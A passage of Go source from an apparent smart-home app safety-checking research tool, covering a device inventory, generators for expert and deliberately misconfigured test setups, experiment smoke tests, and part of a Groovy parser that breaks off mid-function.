	"iotsan/internal/props"
	"iotsan/internal/smartapp"
)

// HomeInventory returns the shared device inventory: a realistic
// smart-home covering every capability the corpus uses, with the
// association roles the property catalog binds to (§7).
func HomeInventory() []config.Device {
	return []config.Device{
		{ID: "myTempMeas", Label: "Living Room Temp", Model: "Temperature Sensor"},
		{ID: "myHeaterOutlet", Label: "Heater Outlet", Model: "Smart Power Outlet", Association: props.RoleHeater},
		{ID: "myACOutlet", Label: "AC Outlet", Model: "Smart Power Outlet", Association: props.RoleAC},
		{ID: "livRoomBulbOutlet", Label: "Living Room Bulb", Model: "Smart Bulb"},
		{ID: "bedRoomBulbOutlet", Label: "Bedroom Bulb", Model: "Smart Bulb", Association: props.RoleNightDevice},
		{ID: "batRoomBulbOutlet", Label: "Bathroom Bulb", Model: "Smart Bulb"},
		{ID: "hallDimmer", Label: "Hall Dimmer", Model: "Dimmer Switch"},
		{ID: "livRoomMotion", Label: "Living Room Motion", Model: "Motion Sensor"},
		{ID: "batRoomMotion", Label: "Bathroom Motion", Model: "Motion Sensor"},
		{ID: "frontDoorContact", Label: "Front Door Contact", Model: "Contact Sensor", Association: props.RoleEntryContact},
		{ID: "windowContact", Label: "Window Contact", Model: "Contact Sensor"},
		{ID: "alicePresence", Label: "Alice's Presence", Model: "Presence Sensor"},
		{ID: "bobPresence", Label: "Bob's Presence", Model: "Presence Sensor"},
		{ID: "frontDoorLock", Label: "Front Door Lock", Model: "Smart Lock", Association: props.RoleMainDoor},
		{ID: "backDoorLock", Label: "Back Door Lock", Model: "Smart Lock"},
		{ID: "garageDoor", Label: "Garage Door", Model: "Garage Door Opener", Association: props.RoleGarage},
		{ID: "backDoor", Label: "Back Door Control", Model: "Door Control"},
		{ID: "smokeDet", Label: "Kitchen Smoke Detector", Model: "Smoke Detector"},
		{ID: "coDet", Label: "Hall CO Detector", Model: "CO Detector"},
		{ID: "basementLeak", Label: "Basement Leak Sensor", Model: "Water Leak Sensor"},
		{ID: "sirenAlarm", Label: "Siren", Model: "Siren Alarm", Association: props.RoleAlarm},
		{ID: "waterMainValve", Label: "Water Main Valve", Model: "Water Valve", Association: props.RoleWaterMain, Initial: map[string]string{"valve": "open"}},
		{ID: "fireValve", Label: "Fire Sprinkler Valve", Model: "Water Valve", Association: props.RoleFireValve, Initial: map[string]string{"valve": "open"}},
		{ID: "luxSensor", Label: "Hallway Lux", Model: "Illuminance Sensor"},
		{ID: "humiditySensor", Label: "Bathroom Humidity", Model: "Humidity Sensor"},
		{ID: "bedsideButton", Label: "Bedside Button", Model: "Button Controller"},
		{ID: "livRoomShade", Label: "Living Room Shade", Model: "Window Shade", Association: props.RoleShade},
		{ID: "speaker", Label: "Kitchen Speaker", Model: "Speaker", Association: props.RoleEntertainment},
		{ID: "porchCamera", Label: "Porch Camera", Model: "Camera", Association: props.RoleCamera},
		{ID: "soilSensor", Label: "Garden Soil Sensor", Model: "Soil Moisture Sensor"},
		{ID: "sprinklerCtl", Label: "Sprinkler", Model: "Sprinkler Controller", Association: props.RoleSprinkler},
		{ID: "sleepPad", Label: "Sleep Pad", Model: "Sleep Sensor"},
		{ID: "washerMeter", Label: "Washer Meter", Model: "Smart Power Outlet"},
		{ID: "homeEnergy", Label: "Home Energy Meter", Model: "Energy Meter"},
		{ID: "safeBoxAccel", Label: "Safe Box Accel", Model: "Multipurpose Sensor"},
		{ID: "mainThermostat", Label: "Main Thermostat", Model: "Thermostat"},
		{ID: "panelSwitch", Label: "Security Panel Switch", Model: "Smart Switch", Association: props.RoleSecuritySw},
		{ID: "curlingIron", Label: "Curling Iron Outlet", Model: "Smart Power Outlet", Association: props.RoleAwayDevice},
		{ID: "sumpLevel", Label: "Sump Level", Model: "Water Level Sensor"},
	}
}

// RandomGroups divides the 150 market apps into six groups of 25 with a
// seeded shuffle, mirroring §10.1: "We randomly divide the 150 apps into
// six groups (25 apps per group)".
func RandomGroups(seed int64) [][]corpus.Source {
	apps := corpus.WithTag(corpus.TagMarket)
	rng := rand.New(rand.NewSource(seed))
	rng.Shuffle(len(apps), func(i, j int) { apps[i], apps[j] = apps[j], apps[i] })
	var groups [][]corpus.Source
	for i := 0; i < len(apps); i += 25 {
		end := i + 25
		if end > len(apps) {
			end = len(apps)
		}
		groups = append(groups, apps[i:end])
	}
	return groups
}

// TranslateAll translates a set of corpus apps, returning name → ir.App.
func TranslateAll(sources []corpus.Source) (map[string]*ir.App, error) {
	out := map[string]*ir.App{}
	for _, s := range sources {
		app, err := smartapp.Translate(s.Groovy)
		if err != nil {
			return nil, fmt.Errorf("translate %s: %w", s.Name, err)
		}
		out[s.Name] = app
	}
	return out, nil
}

// deviceRank orders candidate devices deterministically, preferring
// devices whose id hints match the input name (the expert's common-sense
// binding, §10.1).
func deviceRank(in ir.Input, d config.Device) int {
	score := 0
	name := strings.ToLower(in.Name)
	id := strings.ToLower(d.ID)
	for _, hint := range []struct{ needle, devPart string }{
		{"heater", "heater"}, {"ac", "acoutlet"}, {"fan", "acoutlet"},
		{"sprinkler", "sprinkler"}, {"pump", "washer"}, {"panel", "panel"},
		{"coffee", "curling"}, {"bench", "curling"}, {"feeder", "curling"},
		{"light", "bulb"}, {"lamp", "bulb"}, {"switch", "bulb"},
		{"outlet", "outlet"}, {"humidifier", "acoutlet"},
	} {
		if strings.Contains(name, hint.needle) && strings.Contains(id, hint.devPart) {
			score -= 10
		}
	}
	return score
}

// ExpertConfig builds the authors-style configuration for a set of apps
// against the shared inventory: each input bound to the most sensible
// device, literals to sane values.
func ExpertConfig(name string, sources []corpus.Source, apps map[string]*ir.App) *config.System {
	sys := &config.System{
		Name:    name,
		Modes:   []string{"Home", "Away", "Night"},
		Mode:    "Home",
		Devices: HomeInventory(),
		Phones:  []string{"15551230000"},
	}
	for _, s := range sources {
		app := apps[s.Name]
		inst := config.AppInstance{App: s.Name, Bindings: map[string]config.Binding{}}
		for _, in := range app.Inputs {
			if b, ok := expertBinding(sys, in, 0); ok {
				inst.Bindings[in.Name] = b
			}
		}
		sys.Apps = append(sys.Apps, inst)
	}
	return sys
}

// VolunteerConfig perturbs bindings with a seeded RNG, reproducing the
// §2.2 misconfiguration classes: over-binding multiple-device inputs,
// wrong enum options, and mode mix-ups.
func VolunteerConfig(name string, sources []corpus.Source, apps map[string]*ir.App, seed int64) *config.System {
	rng := rand.New(rand.NewSource(seed))
	sys := &config.System{
		Name:    name,
		Modes:   []string{"Home", "Away", "Night"},
		Mode:    "Home",
		Devices: HomeInventory(),
		Phones:  []string{"15551230000"},
	}
	for _, s := range sources {
		app := apps[s.Name]
		inst := config.AppInstance{App: s.Name, Bindings: map[string]config.Binding{}}
		for _, in := range app.Inputs {
			if b, ok := expertBinding(sys, in, rng.Intn(3)); ok {
				// The signature volunteer mistake (§2.2): for a
				// multiple-device switch input, bind BOTH the heater and
				// the AC outlets ("the app controls both").
				if in.Kind == ir.InputDevice && in.Capability == "switch" && in.Multiple && rng.Intn(2) == 0 {
					b = config.Binding{DeviceIDs: []string{"myHeaterOutlet", "myACOutlet"}}
				}
				// Enum mix-up: pick a random option.
				if in.Kind == ir.InputEnum && len(in.Options) > 1 {
					b = config.Binding{Value: in.Options[rng.Intn(len(in.Options))]}
				}
				// Mode mix-up: sometimes the wrong mode.
				if in.Kind == ir.InputMode && rng.Intn(3) == 0 {
					b = config.Binding{Value: sys.Modes[rng.Intn(len(sys.Modes))]}
				}
				inst.Bindings[in.Name] = b
			}
		}
		sys.Apps = append(sys.Apps, inst)
	}
	return sys
}

// expertBinding picks the offset-th best binding for an input.
func expertBinding(sys *config.System, in ir.Input, offset int) (config.Binding, bool) {
	switch in.Kind {
	case ir.InputDevice:
		var cands []config.Device
		for _, d := range sys.Devices {
			if m := device.ModelByName(d.Model); m != nil && m.HasCapability(in.Capability) {
				cands = append(cands, d)
			}
		}
		if len(cands) == 0 {
			return config.Binding{}, false
		}
		sort.SliceStable(cands, func(i, j int) bool {
			ri, rj := deviceRank(in, cands[i]), deviceRank(in, cands[j])
			if ri != rj {
				return ri < rj
			}
			return cands[i].ID < cands[j].ID
		})
		pick := cands[offset%len(cands)]
		if in.Multiple && in.Capability == "presenceSensor" {
			// People inputs bind all presence sensors.
			var ids []string
			for _, c := range cands {
				ids = append(ids, c.ID)
			}
			return config.Binding{DeviceIDs: ids}, true
		}
		return config.Binding{DeviceIDs: []string{pick.ID}}, true
	case ir.InputNumber:
		return config.Binding{Value: numberFor(in.Name)}, true
	case ir.InputEnum:
		if len(in.Options) > 0 {
			return config.Binding{Value: in.Options[0]}, true
		}
		return config.Binding{Value: ""}, true
	case ir.InputMode:
		return config.Binding{Value: modeFor(in.Name)}, true
	case ir.InputPhone, ir.InputContact:
		return config.Binding{Value: sys.Phones[0]}, true
	case ir.InputTime:
		return config.Binding{Value: "22:00"}, true
	case ir.InputText:
		return config.Binding{Value: "note"}, true
	case ir.InputBool:
		return config.Binding{Value: true}, true
	}
	return config.Binding{}, false
}

// numberFor picks an expert literal for a numeric input by its name.
func numberFor(name string) int {
	n := strings.ToLower(name)
	switch {
	case strings.Contains(n, "setpoint") || strings.Contains(n, "temp") ||
		strings.Contains(n, "target") || strings.Contains(n, "warm") ||
		strings.Contains(n, "below") || strings.Contains(n, "heat") ||
		strings.Contains(n, "cool") || strings.Contains(n, "point") ||
		strings.Contains(n, "low") || strings.Contains(n, "high") ||
		strings.Contains(n, "limit"):
		return 75
	case strings.Contains(n, "lux") || strings.Contains(n, "threshold"):
		return 50
	case strings.Contains(n, "minute") || strings.Contains(n, "grace") ||
		strings.Contains(n, "delay"):
		return 10
	case strings.Contains(n, "humidity") || strings.Contains(n, "percent") ||
		strings.Contains(n, "dry") || strings.Contains(n, "wet") ||
		strings.Contains(n, "budget"):
		return 50
	case strings.Contains(n, "watt"):
		return 100
	}
	return 70
}

// modeFor maps mode-input names to the expert's intent.
func modeFor(name string) string {
	n := strings.ToLower(name)
	switch {
	case strings.Contains(n, "away"):
		return "Away"
	case strings.Contains(n, "night") || strings.Contains(n, "sleep") ||
		strings.Contains(n, "evening"):
		return "Night"
	}
	return "Home"
}
