package experiments

import "testing"

func TestTable5OneGroupSmoke(t *testing.T) {
	res, err := RunTable5(2, []int{1})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("total violations=%d properties=%d removed=%v failure-extra=%d",
		res.TotalViolations, res.Properties, res.RemovedApps, res.FailureExtraProperties)
	if res.TotalViolations == 0 {
		t.Error("expected violations in group 1 (Unlock Door et al.)")
	}
}
