package experiments

import "testing"

func TestTable7aScaleRatios(t *testing.T) {
	rows, mean, err := RunTable7a()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 6 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		if r.NewSize <= 0 || r.NewSize > r.OriginalSize {
			t.Errorf("group %d: new=%d orig=%d", r.Group, r.NewSize, r.OriginalSize)
		}
		t.Logf("group %d: %d -> %d (%.1fx)", r.Group, r.OriginalSize, r.NewSize, r.Ratio)
	}
	if mean < 1.5 {
		t.Errorf("mean scale ratio %.2f; paper reports 3.4x, want >= 1.5x", mean)
	}
	t.Logf("mean scale ratio: %.2f", mean)
}
