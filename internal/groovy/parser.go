package groovy

import (
	"fmt"
	"strconv"
	"strings"
)

// A ParseError reports a syntax error with its source position.
type ParseError struct {
	Pos Pos
	Msg string
}

func (e *ParseError) Error() string { return fmt.Sprintf("%s: %s", e.Pos, e.Msg) }

// parser consumes a token stream.
type parser struct {
	toks []Token
	i    int
}

// ParseScript parses a complete smart-app source file.
func ParseScript(src string) (*Script, error) {
	toks, err := Tokenize(src)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks}
	s := &Script{}
	p.skipSemis()
	for p.tok().Kind != EOF {
		d, err := p.parseDecl()
		if err != nil {
			return nil, err
		}
		if d != nil {
			s.Decls = append(s.Decls, d)
		}
		p.skipSemis()
	}
	return s, nil
}

// ParseExpression parses a single expression (used for GString
// interpolations and tests).
func ParseExpression(src string) (Expr, error) {
	toks, err := Tokenize(src)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks}
	p.skipSemis()
	e, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	p.skipSemis()
	if p.tok().Kind != EOF {
		return nil, p.errorf("unexpected %s after expression", p.tok())
	}
	return e, nil
}

func (p *parser) tok() Token { return p.toks[p.i] }

func (p *parser) peek(n int) Token {
	if p.i+n >= len(p.toks) {
		return p.toks[len(p.toks)-1] // EOF
	}
	return p.toks[p.i+n]
}

func (p *parser) next() Token {
	t := p.toks[p.i]
	if t.Kind != EOF {
		p.i++
	}
	return t
}

func (p *parser) accept(k Kind) bool {
	if p.tok().Kind == k {
		p.next()
		return true
	}
	return false
}

func (p *parser) expect(k Kind) (Token, error) {
	if p.tok().Kind != k {
		return Token{}, p.errorf("expected %s, found %s", k, p.tok())
	}
	return p.next(), nil
}

func (p *parser) errorf(format string, args ...any) error {
	return &ParseError{Pos: p.tok().Pos, Msg: fmt.Sprintf(format, args...)}
}

func (p *parser) skipSemis() {
	for p.tok().Kind == SEMI {
		p.next()
	}
}

// skipNewlineSemis skips SEMI tokens that were inserted at newlines; used
// where a construct may continue on the next line (after '{', 'else', ...).
func (p *parser) skipNewlineSemis() { p.skipSemis() }

// ---- Declarations ----

func (p *parser) parseDecl() (Decl, error) {
	// Annotations: @Field, @SuppressWarnings(...) — parsed and dropped.
	for p.tok().Kind == At {
		p.next()
		if _, err := p.expect(IDENT); err != nil {
			return nil, err
		}
		if p.tok().Kind == LParen {
			if err := p.skipBalanced(LParen, RParen); err != nil {
				return nil, err
			}
		}
		p.skipSemis()
	}
	if p.tok().Kind == KwImport {
		p.parseImport()
		return nil, nil
	}

	var mods []string
	for {
		k := p.tok().Kind
		if k == KwPrivate || k == KwPublic || k == KwProtected || k == KwStatic || k == KwFinal {
			mods = append(mods, p.next().Text)
			continue
		}
		break
	}

	if md, ok, err := p.tryParseMethodDecl(mods); err != nil {
		return nil, err
	} else if ok {
		return md, nil
	}
	if len(mods) > 0 {
		// `private foo = ...` script field.
		if p.tok().Kind == IDENT && p.peek(1).Kind == Assign {
			return p.parseStmt()
		}
		return nil, p.errorf("expected method declaration after modifiers")
	}
	return p.parseStmt()
}

func (p *parser) parseImport() {
	// Consume tokens to end of statement.
	for p.tok().Kind != SEMI && p.tok().Kind != EOF {
		p.next()
	}
}

func (p *parser) skipBalanced(open, close Kind) error {
	if _, err := p.expect(open); err != nil {
		return err
	}
	depth := 1
	for depth > 0 {
		switch p.tok().Kind {
		case EOF:
			return p.errorf("unbalanced %s", open)
		case open:
			depth++
		case close:
			depth--
		}
		p.next()
	}
	return nil
}

// tryParseMethodDecl recognises:
//
//	def name(params) { ... }
//	void name(params) { ... }
//	private Type name(params) { ... }
//	private name(params) { ... }   (with modifiers)
func (p *parser) tryParseMethodDecl(mods []string) (*MethodDecl, bool, error) {
	start := p.i
	pos := p.tok().Pos
	retType := ""
	switch {
	case p.tok().Kind == KwDef || p.tok().Kind == KwVoid:
		isDef := p.tok().Kind == KwDef
		p.next()
		if p.tok().Kind != IDENT || p.peek(1).Kind != LParen {
			p.i = start
			if isDef {
				return nil, false, nil // `def x = ...` variable
			}
			return nil, false, p.errorf("expected method name after void")
		}
	case p.tok().Kind == IDENT:
		// Type name(  |  name(   — with at least one modifier, or at top
		// level when followed by a body brace.
		if p.peek(1).Kind == IDENT && p.peek(2).Kind == LParen {
			retType = p.next().Text
		} else if p.peek(1).Kind == LBrack && p.peek(2).Kind == RBrack &&
			p.peek(3).Kind == IDENT && p.peek(4).Kind == LParen {
			retType = p.next().Text + "[]"
			p.next()
			p.next()
		} else if len(mods) > 0 && p.peek(1).Kind == LParen {
			// private name(...)
		} else {
			return nil, false, nil
		}
	default:
		return nil, false, nil
	}

	nameTok, err := p.expect(IDENT)
	if err != nil {
		return nil, false, err
	}
	if p.tok().Kind != LParen {
		p.i = start
		return nil, false, nil
	}
	params, err := p.parseParamList()
	if err != nil {
		return nil, false, err
	}
	p.skipNewlineSemis()
	if p.tok().Kind != LBrace {
		// Not a declaration after all (e.g. command call `foo (x)`).
		p.i = start
		return nil, false, nil
	}
	body, err := p.parseBlock()
	if err != nil {
		return nil, false, err
	}
	return &MethodDecl{
		Pos: pos, Name: nameTok.Text, Params: params, Body: body,
		Modifiers: mods, Type: retType,
	}, true, nil
}

func (p *parser) parseParamList() ([]Param, error) {
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	var params []Param
	p.skipNewlineSemis()
	for p.tok().Kind != RParen {
		var prm Param
		prm.Pos = p.tok().Pos
		// Optional type: IDENT IDENT or def IDENT.
		if p.tok().Kind == KwDef {
			p.next()
		} else if p.tok().Kind == IDENT && p.peek(1).Kind == IDENT {
			prm.Type = p.next().Text
		}
		t, err := p.expect(IDENT)
		if err != nil {
			return nil, err
		}
		prm.Name = t.Text
		if p.accept(Assign) {
			d, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			prm.Default = d
		}
		params = append(params, prm)
		if !p.accept(Comma) {
			break
		}
		p.skipNewlineSemis()
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	return params, nil
}

// ---- Statements ----

func (p *parser) parseBlock() (*Block, error) {
	tok, err := p.expect(LBrace)
	if err != nil {
		return nil, err
	}
	b := &Block{Pos: tok.Pos}
	p.skipSemis()
	for p.tok().Kind != RBrace {
		if p.tok().Kind == EOF {
			return nil, p.errorf("unterminated block (opened at %s)", tok.Pos)
		}
		s, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		if s != nil {
			b.Stmts = append(b.Stmts, s)
		}
		p.skipSemis()
	}
	p.next() // '}'
	return b, nil
}

func (p *parser) parseStmt() (Stmt, error) {
	pos := p.tok().Pos
	switch p.tok().Kind {
	case KwDef:
		return p.parseVarDecl()
	case KwIf:
		return p.parseIf()
	case KwWhile:
		return p.parseWhile()
	case KwFor:
		return p.parseFor()
	case KwReturn:
		p.next()
		if k := p.tok().Kind; k == SEMI || k == RBrace || k == EOF {
			return &ReturnStmt{Pos: pos}, nil
		}
		x, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		return &ReturnStmt{Pos: pos, X: x}, nil
	case KwBreak:
		p.next()
		return &BreakStmt{Pos: pos}, nil
	case KwContinue:
		p.next()
		return &ContinueStmt{Pos: pos}, nil
	case KwSwitch:
		return p.parseSwitch()
	case KwTry:
		return p.parseTry()
	case KwThrow:
		p.next()
		x, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		return &ThrowStmt{Pos: pos, X: x}, nil
	case LBrace:
		return p.parseBlock()
	case IDENT:
		// Typed local declaration: `Type name = expr` / `Type[] name = expr`.
		if p.peek(1).Kind == IDENT && p.peek(2).Kind == Assign {
			typ := p.next().Text
			name := p.next().Text
			p.next() // '='
			init, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			return &VarDeclStmt{Pos: pos, Name: name, Type: typ, Init: init}, nil
		}
		if p.peek(1).Kind == LBrack && p.peek(2).Kind == RBrack &&
			p.peek(3).Kind == IDENT {
			typ := p.next().Text + "[]"
			p.next()
			p.next()
			name := p.next().Text
			var init Expr
			if p.accept(Assign) {
				var err error
				init, err = p.parseExpr()
				if err != nil {
					return nil, err
				}
			}
			return &VarDeclStmt{Pos: pos, Name: name, Type: typ, Init: init}, nil
		}
	}
	return p.parseExprOrAssign()
}

func (p *parser) parseVarDecl() (Stmt, error) {
	pos := p.tok().Pos
	p.next() // def
	t, err := p.expect(IDENT)
	if err != nil {
		return nil, err
	}
	d := &VarDeclStmt{Pos: pos, Name: t.Text}
	if p.accept(Assign) {
		d.Init, err = p.parseExpr()
		if err != nil {
			return nil, err
		}
	}
	return d, nil
}

func (p *parser) parseIf() (Stmt, error) {
	pos := p.tok().Pos
	p.next() // if
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	cond, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	p.skipNewlineSemis()
	thenB, err := p.parseBranchBody()
	if err != nil {
		return nil, err
	}
	st := &IfStmt{Pos: pos, Cond: cond, Then: thenB}
	// `else` may be preceded by inserted SEMIs (newline after `}`).
	save := p.i
	p.skipSemis()
	if p.tok().Kind == KwElse {
		p.next()
		p.skipNewlineSemis()
		if p.tok().Kind == KwIf {
			elseIf, err := p.parseIf()
			if err != nil {
				return nil, err
			}
			st.Else = elseIf
		} else {
			elseB, err := p.parseBranchBody()
			if err != nil {
				return nil, err
			}
			st.Else = elseB
		}
	} else {
		p.i = save
	}
	return st, nil
}

// parseBranchBody parses either a block or a single statement, wrapping the
// latter in a Block.
func (p *parser) parseBranchBody() (*Block, error) {
	if p.tok().Kind == LBrace {
		return p.parseBlock()
	}
	s, err := p.parseStmt()
	if err != nil {
		return nil, err
	}
	return &Block{Pos: s.NodePos(), Stmts: []Stmt{s}}, nil
}

func (p *parser) parseWhile() (Stmt, error) {
	pos := p.tok().Pos
	p.next()
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	cond, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	p.skipNewlineSemis()
	body, err := p.parseBranchBody()
	if err != nil {
		return nil, err
	}
	return &WhileStmt{Pos: pos, Cond: cond, Body: body}, nil
}

func (p *parser) parseFor() (Stmt, error) {
	pos := p.tok().Pos
	p.next() // for
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	// for (x in e) | for (def x in e) | for (init; cond; post)
	save := p.i
	if p.tok().Kind == KwDef || p.tok().Kind == IDENT {
		varIdx := p.i
		if p.tok().Kind == KwDef {
			p.next()
		} else if p.peek(1).Kind == IDENT && p.peek(2).Kind == KwIn {
			p.next() // type name, discarded
		}
		if p.tok().Kind == IDENT && p.peek(1).Kind == KwIn {
			name := p.next().Text
			p.next() // in
			iter, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if _, err := p.expect(RParen); err != nil {
				return nil, err
			}
			p.skipNewlineSemis()
			body, err := p.parseBranchBody()
			if err != nil {
				return nil, err
			}
			return &ForInStmt{Pos: pos, Var: name, Iter: iter, Body: body}, nil
		}
		_ = varIdx
		p.i = save
	}
	// C-style.
	var init, post Stmt
	var cond Expr
	var err error
	if p.tok().Kind != SEMI {
		init, err = p.parseStmt()
		if err != nil {
			return nil, err
		}
	}
	if _, err := p.expect(SEMI); err != nil {
		return nil, err
	}
	if p.tok().Kind != SEMI {
		cond, err = p.parseExpr()
		if err != nil {
			return nil, err
		}
	}
	if _, err := p.expect(SEMI); err != nil {
		return nil, err
	}
	if p.tok().Kind != RParen {
		post, err = p.parseStmt()
		if err != nil {
			return nil, err
		}
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	p.skipNewlineSemis()
	body, err := p.parseBranchBody()
	if err != nil {
		return nil, err
	}
	return &ForCStmt{Pos: pos, Init: init, Cond: cond, Post: post, Body: body}, nil
}

func (p *parser) parseSwitch() (Stmt, error) {
	pos := p.tok().Pos
	p.next() // switch
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	subj, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	p.skipNewlineSemis()
	if _, err := p.expect(LBrace); err != nil {
		return nil, err
	}
	st := &SwitchStmt{Pos: pos, Subject: subj}
	p.skipSemis()
	for p.tok().Kind != RBrace {
		switch p.tok().Kind {
		case KwCase:
			c := SwitchCase{Pos: p.tok().Pos}
			// Stacked labels: case a: case b: body
			for p.tok().Kind == KwCase {
				p.next()
				v, err := p.parseExpr()
				if err != nil {
					return nil, err
				}
				c.Values = append(c.Values, v)
				if _, err := p.expect(Colon); err != nil {
					return nil, err
				}
				p.skipSemis()
			}
			body, err := p.parseCaseBody()
			if err != nil {
				return nil, err
			}
			c.Body = body
			st.Cases = append(st.Cases, c)
		case KwDefault:
			p.next()
			if _, err := p.expect(Colon); err != nil {
				return nil, err
			}
			p.skipSemis()
			body, err := p.parseCaseBody()
			if err != nil {
				return nil, err
			}
			st.Default = body
		default:
			return nil, p.errorf("expected case or default in switch, found %s", p.tok())
		}
		p.skipSemis()
	}
	p.next() // '}'
	return st, nil
}

func (p *parser) parseCaseBody() ([]Stmt, error) {
	var body []Stmt
	for {
		k := p.tok().Kind
		if k == KwCase || k == KwDefault || k == RBrace || k == EOF {
			return body, nil
		}
		s, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		body = append(body, s)
		p.skipSemis()
	}
}

func (p *parser) parseTry() (Stmt, error) {
	pos := p.tok().Pos
	p.next() // try
	p.skipNewlineSemis()
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	st := &TryStmt{Pos: pos, Body: body}
	p.skipSemis()
	for p.tok().Kind == KwCatch {
		cpos := p.next().Pos
		if _, err := p.expect(LParen); err != nil {
			return nil, err
		}
		var cc CatchClause
		cc.Pos = cpos
		if p.tok().Kind == IDENT && p.peek(1).Kind == IDENT {
			cc.Type = p.next().Text
		}
		t, err := p.expect(IDENT)
		if err != nil {
			return nil, err
		}
		cc.Name = t.Text
		if _, err := p.expect(RParen); err != nil {
			return nil, err
		}
		p.skipNewlineSemis()
		cb, err := p.parseBlock()
		if err != nil {
			return nil, err
		}
		cc.Body = cb
		st.Catches = append(st.Catches, cc)
		p.skipSemis()
	}
	if p.tok().Kind == KwFinally {
		p.next()
		p.skipNewlineSemis()
		fb, err := p.parseBlock()
		if err != nil {
			return nil, err
		}
		st.Finally = fb
	}
	return st, nil
}

// parseExprOrAssign parses an expression statement, an assignment, or a
// command-syntax call (`input "x", "capability.switch", title: "T"`).
func (p *parser) parseExprOrAssign() (Stmt, error) {
	pos := p.tok().Pos
	x, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	switch p.tok().Kind {
	case Assign, PlusAssign, MinusAssign, StarAssign, SlashAssign:
		op := p.next().Kind
		rhs, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if !isLValue(x) {
			return nil, &ParseError{Pos: pos, Msg: "invalid assignment target"}
		}
		return &AssignStmt{Pos: pos, LHS: x, Op: op, RHS: rhs}, nil
	}
	// Command syntax: expression is a name (or property chain) followed by
	// the start of an argument on the same line.
	if callable, ok := asCommandTarget(x); ok {
		if p.startsCommandArg() {
			call, err := p.parseCommandArgs(callable)
			if err != nil {
				return nil, err
			}
			return &ExprStmt{Pos: pos, X: call}, nil
		}
		// Builder call with only a closure: `preferences { ... }`.
		if p.tok().Kind == LBrace {
			cl, err := p.parseClosure()
			if err != nil {
				return nil, err
			}
			callable.Closure = cl
			return &ExprStmt{Pos: pos, X: callable}, nil
		}
	}
	return &ExprStmt{Pos: pos, X: x}, nil
}

func isLValue(e Expr) bool {
	switch e.(type) {
	case *Ident, *PropertyExpr, *IndexExpr:
		return true
	}
	return false
}

// asCommandTarget reports whether e can be the target of a parenthesis-free
// call, returning the call skeleton.
func asCommandTarget(e Expr) (*CallExpr, bool) {
	switch t := e.(type) {
	case *Ident:
		return &CallExpr{Pos: t.Pos, Name: t.Name, NoParens: true}, true
	case *PropertyExpr:
		return &CallExpr{Pos: t.Pos, Recv: t.Recv, Name: t.Name, Safe: t.Safe,
			Spread: t.Spread, NoParens: true}, true
	}
	return nil, false
}

// startsCommandArg reports whether the current token can begin the first
// argument of a command-syntax call.
func (p *parser) startsCommandArg() bool {
	switch p.tok().Kind {
	case STRING, GSTRING, INT, NUMBER, KwTrue, KwFalse, KwNull, KwNew:
		return true
	case IDENT:
		// `foo bar` and named args `foo title: x`.
		return true
	case LBrack:
		// `foo [1, 2]` — requires separating space (otherwise indexing
		// would have consumed it during postfix parsing).
		return p.tok().SpaceBefore
	}
	return false
}

func (p *parser) parseCommandArgs(call *CallExpr) (Expr, error) {
	for {
		// Named argument: IDENT ':' expr or STRING ':' expr.
		if (p.tok().Kind == IDENT || p.tok().Kind == STRING) && p.peek(1).Kind == Colon {
			key := p.next()
			p.next() // ':'
			v, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			call.NamedArgs = append(call.NamedArgs, MapEntry{Pos: key.Pos, Key: key.Text, Value: v})
		} else {
			a, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			call.Args = append(call.Args, a)
		}
		if !p.accept(Comma) {
			break
		}
		p.skipNewlineSemis()
	}
	if p.tok().Kind == LBrace {
		cl, err := p.parseClosure()
		if err != nil {
			return nil, err
		}
		call.Closure = cl
	}
	return call, nil
}

// ---- Expressions (precedence climbing) ----

func (p *parser) parseExpr() (Expr, error) { return p.parseTernary() }

func (p *parser) parseTernary() (Expr, error) {
	cond, err := p.parseOr()
	if err != nil {
		return nil, err
	}
	switch p.tok().Kind {
	case Question:
		pos := p.next().Pos
		p.skipNewlineSemis()
		thenX, err := p.parseTernary()
		if err != nil {
			return nil, err
		}
		p.skipNewlineSemis()
		if _, err := p.expect(Colon); err != nil {
			return nil, err
		}
		p.skipNewlineSemis()
		elseX, err := p.parseTernary()
		if err != nil {
			return nil, err
		}
		return &TernaryExpr{Pos: pos, Cond: cond, Then: thenX, Else: elseX}, nil
	case Elvis:
		pos := p.next().Pos
		p.skipNewlineSemis()
		y, err := p.parseTernary()
		if err != nil {
			return nil, err
		}
		return &ElvisExpr{Pos: pos, X: cond, Y: y}, nil
	}
	return cond, nil
}

func (p *parser) parseOr() (Expr, error) {
	l, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for p.tok().Kind == OrOr {
		pos := p.next().Pos
		p.skipNewlineSemis()
		r, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		l = &BinaryExpr{Pos: pos, Op: OrOr, L: l, R: r}
	}
	return l, nil
}

func (p *parser) parseAnd() (Expr, error) {
	l, err := p.parseComparison()
